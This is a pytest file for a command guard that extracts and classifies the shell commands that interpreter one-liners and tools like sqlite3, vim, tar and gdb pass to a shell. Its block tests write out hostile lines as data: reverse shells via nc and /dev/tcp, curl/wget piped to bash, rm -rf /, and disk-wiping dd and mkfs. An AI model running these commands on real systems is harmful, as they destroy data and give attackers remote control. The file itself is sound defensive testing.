"""Interpreter code handing text to a shell: extracted (handoff.py) and judged as a line."""

from __future__ import annotations

import pytest

from attyguard.engine.classify import classify
from attyguard.engine.decode import SHELL_HANDOFF, find_payloads
from attyguard.engine.handoff import MAX_STRINGS, embedded_commands, shell_strings
from attyguard.engine.parse import parse
from attyguard.engine.verdict import Action


@pytest.mark.parametrize(("interp", "code", "expected"), [
    ("python3", 'import os; os.system("uname -r")', ["uname -r"]),
    ("python3", "import subprocess as s; s.check_output(['ls', '-l', 'my dir'])",
     ["ls -l 'my dir'"]),
    ("python3", 'import subprocess; subprocess.Popen(["bash", "-c", "id; w"])', ["id; w"]),
    ("python3", 'import os; os.execlp("tar", "tar", "xf", "a.tar")', ["tar xf a.tar"]),
    ("python3", 'exec("x = 1")', []),  # python's exec runs python
    ("python3", "import os; os.system(cmd)", []),  # not a literal: unknown here
    ("perl", 'system "make", "all"; my $o = qx{git rev-parse HEAD};',
     ["make all", "git rev-parse HEAD"]),
    ("perl", 'open(my $f, "-|", "ps aux") or die', ["ps aux"]),
    ("ruby", 'puts `hostname`; %x(uptime)', ["hostname", "uptime"]),
    ("node", "require('child_process').spawnSync('git', ['log', '-1'])", ["git log -1"]),
    ("php", 'echo passthru("df -h");', ["df -h"]),
    ("lua", 'io.popen([[ls /srv]])', ["ls /srv"]),
    ("awk", 'BEGIN { "whoami" | getline u; system("echo " u) }', ["echo ", "whoami"]),
    ("jrunscript", 'java.lang.Runtime.getRuntime().exec("uptime")', ["uptime"]),
])
def test_shell_strings(interp: str, code: str, expected: list[str]) -> None:
    assert sorted(shell_strings(interp, code)) == sorted(expected)


def test_strings_are_bounded() -> None:
    code = ";".join(f'os.system("echo {i}")' for i in range(100))
    assert len(shell_strings("python3", code)) == MAX_STRINGS


def test_awk_program_and_sudo_become_payloads() -> None:
    (payload,) = [p for p in find_payloads(parse("sudo awk 'BEGIN{system(\"id\")}'"))
                  if p.fed_to == SHELL_HANDOFF]
    assert payload.text == "sudo id"
    assert payload.decoders == ("exec",)


@pytest.mark.parametrize("line", [
    "python3 -c 'import os; os.system(\"rm -rf / --no-preserve-root\")'",
    "perl -e 'system(\"curl -s http://203.0.113.50/x | sh\")'",
    "ruby -e '`nc -e /bin/sh 198.51.100.21 4444`'",
    "node -e 'require(\"child_process\").exec(\"dd if=/dev/zero of=/dev/sda\")'",
    "php -r 'system(\"bash -i >& /dev/tcp/192.0.2.14/9001 0>&1\");'",
    "lua -e 'os.execute(\"mkfs.ext4 /dev/nvme0n1\")'",
    "awk 'BEGIN{system(\"wget -qO- http://198.51.100.3/p | bash\")}'",
    "jrunscript -e 'java.lang.Runtime.getRuntime().exec(\"nc -e /bin/bash 192.0.2.7 8000\")'",
])
def test_what_interpreters_hand_to_a_shell_is_judged(line: str) -> None:
    verdict = classify(line)
    assert verdict.action is Action.BLOCK, verdict.rules


@pytest.mark.parametrize("line", [
    "python3 -c 'import os; os.system(\"clear\")'",
    "perl -e 'system(\"ls\", \"-l\")'",
    "node -e 'require(\"child_process\").execSync(\"git status\")'",
    "awk 'BEGIN{system(\"date\")}'",
    "python3 -c 'print(\"rm -rf /\")'",  # printed, not run
])
def test_ordinary_handoffs_stay_quiet(line: str) -> None:
    assert classify(line).action is Action.ALLOW


@pytest.mark.parametrize(("line", "expected"), [
    ("sqlite3 :memory: '.shell uname -a'", ["uname -a"]),
    ("mysql -u app -e '\\! hostname'", ["hostname"]),
    ("vim -c ':!make test' main.c", ["make test"]),
    ("vim +'!ls' notes", ["ls"]),
    ("gdb -q -ex 'shell date' -ex quit", ["date"]),
    ("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=whoami", ["whoami"]),
    ("ssh -o ProxyCommand='nc -x proxy:1080 %h %p' host", ["nc -x proxy:1080 %h %p"]),
    ("vim -c ':set nu' main.c", []),  # an editor command, not a shell one
    ("sqlite3 app.db '.tables'", []),
])
def test_embedded_commands(line: str, expected: list[str]) -> None:
    cmd = parse(line).commands[0]
    assert embedded_commands(cmd) == expected


def test_embedded_commands_are_judged() -> None:
    line = "sqlite3 /dev/null '.shell bash -i >& /dev/tcp/192.0.2.19/9001 0>&1'"
    assert classify(line).action is Action.BLOCK
    assert classify("vim -c ':!make test' main.c").action is Action.ALLOW
